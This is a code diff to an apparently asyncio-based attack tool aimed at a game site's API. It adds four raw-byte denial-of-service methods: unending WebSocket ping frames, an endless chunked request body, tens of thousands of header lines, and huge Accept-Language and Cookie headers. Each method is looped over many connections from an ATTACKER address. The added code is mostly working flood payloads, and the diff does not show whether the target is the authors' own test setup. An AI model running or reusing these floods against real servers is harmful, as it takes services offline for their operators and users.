@@ -90,7 +90,26 @@ KINDS = [
     "connect",
     "half-open",
     "frames",
+    "pings",
+    "chunks",
+    "heads",
+    "tags",
 ]
+RAW = ("pings", "chunks", "heads", "tags")
+"""Attacks that are bytes, not requests."""
+
+
+def bytes_of(kind: str, host: str, origin: str, game: str) -> tuple[bytes, bytes]:
+    """Returns how such an attack begins on a connection, and what it sends then without end."""
+    ask = f"HTTP/1.1\r\nHost: {host}\r\nOrigin: {origin}\r\n"
+    socket = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
+    many = ",".join(f"x{secrets.token_hex(3)}" for _number in range(2_000))
+    return {
+        "pings": (f"GET /api/games/{game}/live {ask}{socket}{'a' * 22}==\r\n\r\n".encode(), b"\x89\x80abcd" * 80),
+        "chunks": (f"POST /api/games {ask}Transfer-Encoding: chunked\r\n\r\n".encode(), b"1\r\nx\r\n" * 40_000),
+        "heads": (b"", f"GET / {ask}{'a:b' + chr(13) + chr(10)}".encode() + b"a:b\r\n" * 40_000 + b"\r\n"),
+        "tags": (b"", f"GET / {ask}Accept-Language: {many}\r\nCookie: {'a=b;' * 3_000}\r\n\r\n".encode()),
+    }[kind]
 
 
 async def attack(kind: str, url: str, game: str, boxes: list[str], seconds: float, connections: int) -> Counter[str]:
@@ -145,8 +164,27 @@ async def attack(kind: str, url: str, game: str, boxes: list[str], seconds: floa
                         await socket.send('{"pong": 1}')
                         seen["frames"] += 1
 
-    stream = asks(kind, game, boxes) if kind not in ("connect", "half-open", "frames") else iter(())
-    work = {"connect": connect_only, "half-open": half_open, "frames": frames}.get(kind, lambda: ask(stream))
+    async def raw() -> None:
+        begins, goes_on = bytes_of(kind, wire.name, wire.origin, game)
+        while time.monotonic() < end:
+            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
+                reader, writer = await asyncio.open_connection(wire.host, wire.port, local_addr=(ATTACKER, 0))
+                try:
+                    writer.write(begins)
+                    if kind == "pings":
+                        await reader.readuntil(b"\r\n\r\n")
+                    while time.monotonic() < end and not reader.at_eof():
+                        writer.write(goes_on)
+                        await writer.drain()
+                        seen["sent"] += 1
+                        if kind != "chunks":
+                            await reader.read(65_536)
+                finally:
+                    writer.close()
+
+    others = {"connect": connect_only, "half-open": half_open, "frames": frames} | dict.fromkeys(RAW, raw)
+    stream = asks(kind, game, boxes) if kind not in others else iter(())
+    work = others.get(kind, lambda: ask(stream))
     tasks = [asyncio.create_task(work()) for _number in range(connections)]
     await asyncio.wait(tasks, timeout=seconds + 1)
     for task in tasks:
